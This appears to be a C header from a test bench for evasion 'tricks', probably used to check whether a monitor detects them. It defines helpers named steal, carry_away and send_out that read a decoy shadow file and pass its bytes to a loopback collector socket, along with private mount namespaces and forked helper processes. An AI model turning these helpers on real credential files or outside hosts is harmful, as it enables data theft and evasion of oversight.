/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * What the families of tricks share. A trick does one forbidden thing under cover, and tells what it did on the report
 * descriptor, a line each: `pid N` for every process that takes part, `cant REASON` where this host doesn't allow it,
 * `listen PORT` where somebody has to come and fetch. It is over when nobody holds the report descriptor any more.
 */
#ifndef EVADE_H
#define EVADE_H

#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define DECOY "decoy/shadow"
#define ROOM  4096 /* bytes of a file that are carried away */

struct trick {
	const char *name;
	void (*run)(void);
};

#define TRICK(function)                            \
	{                                          \
		.name = #function, .run = function \
	}

static int report_fd = -1;
static const char *trick_name;

static inline void report(const char *format, ...)
{
	char line[512];
	va_list args;
	int len;

	va_start(args, format);
	len = vsnprintf(line, sizeof(line), format, args);
	va_end(args);
	if (len > 0 && write(report_fd, line, (size_t)len < sizeof(line) ? (size_t)len : sizeof(line) - 1) < 0)
		_exit(3);
}

/* Ends the trick: this host doesn't let it be done. */
static inline void cant(const char *what)
{
	report("cant %s: %s\n", what, strerror(errno));
	_exit(0);
}

static inline long must(long result, const char *what)
{
	if (result < 0)
		cant(what);
	return result;
}

/* A path below the bench's folder; every call has a buffer of its own, and none is ever freed. */
static inline char *at(const char *below)
{
	char *path;

	if (asprintf(&path, "%s/%s", getenv("EVADE_ROOT"), below) < 0)
		_exit(3);
	return path;
}

/* A path that only this trick uses. */
static inline char *own(const char *folder)
{
	char *path;

	if (asprintf(&path, "%s/%s/%s", getenv("EVADE_ROOT"), folder, trick_name) < 0)
		_exit(3);
	return path;
}

/* fork() that is told. */
static inline pid_t branch(void)
{
	pid_t pid = must(fork(), "fork");

	if (pid)
		report("pid %d\n", pid);
	return pid;
}

static inline void await(pid_t pid)
{
	while (waitpid(pid, NULL, __WALL) < 0 && errno == EINTR)
		;
}

static inline void nap_ms(long ms)
{
	struct timespec t = {ms / 1000, ms % 1000 * 1000000};

	while (nanosleep(&t, &t) < 0 && errno == EINTR)
		;
}

static inline struct sockaddr_in collector(void)
{
	return (struct sockaddr_in){
		.sin_family = AF_INET,
		.sin_port = htons(atoi(getenv("EVADE_PORT"))),
		.sin_addr = {htonl(INADDR_LOOPBACK)},
	};
}

static inline int dial(void)
{
	struct sockaddr_in to = collector();
	int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket");

	must(connect(fd, (void *)&to, sizeof(to)), "connect");
	return fd;
}

/* Passes what was read to the collector, the plain way. */
static inline void send_out(const char *data, size_t len)
{
	int fd = dial();

	must(write(fd, data, len), "write to the collector");
	close(fd);
}

static inline size_t take(int fd, char *data)
{
	return must(read(fd, data, ROOM), "read");
}

/* Reads an open file and passes it on, the plain way. */
static inline void carry_away(int fd)
{
	char data[ROOM];

	send_out(data, take(fd, data));
}

static inline void steal(const char *path)
{
	carry_away(must(open(path, O_RDONLY), "open"));
}

/* Mounts of one's own, that nobody else sees. */
static inline void own_mounts(void)
{
	must(unshare(CLONE_NEWNS), "unshare(CLONE_NEWNS)");
	must(mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL), "mount --make-rprivate");
}

static inline void fresh_file(const char *path)
{
	close(must(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600), "create"));
}

/* Starts a program with two arguments, told; returns its pid. */
static inline pid_t start(const char *program, const char *argument)
{
	pid_t pid = branch();

	if (!pid) {
		execl(program, program, argument, NULL);
		cant("exec");
	}
	return pid;
}

static inline int run_trick(const struct trick *tricks, size_t count, int argc, char **argv)
{
	const char *fd = getenv("EVADE_REPORT");
	size_t i;

	if (argc < 2 || !fd || !getenv("EVADE_ROOT") || !getenv("EVADE_PORT"))
		return 2;
	report_fd = atoi(fd);
	trick_name = strdup(argv[1]); /* some rewrite their arguments */
	report("pid %d\n", getpid());
	for (i = 0; i < count; i++) {
		if (!strcmp(trick_name, tricks[i].name)) {
			tricks[i].run();
			return 0;
		}
	}
	fprintf(stderr, "no trick called %s here\n", trick_name);
	return 2;
}

#define RUN(tricks, argc, argv) run_trick(tricks, sizeof(tricks) / sizeof((tricks)[0]), argc, argv)

#endif
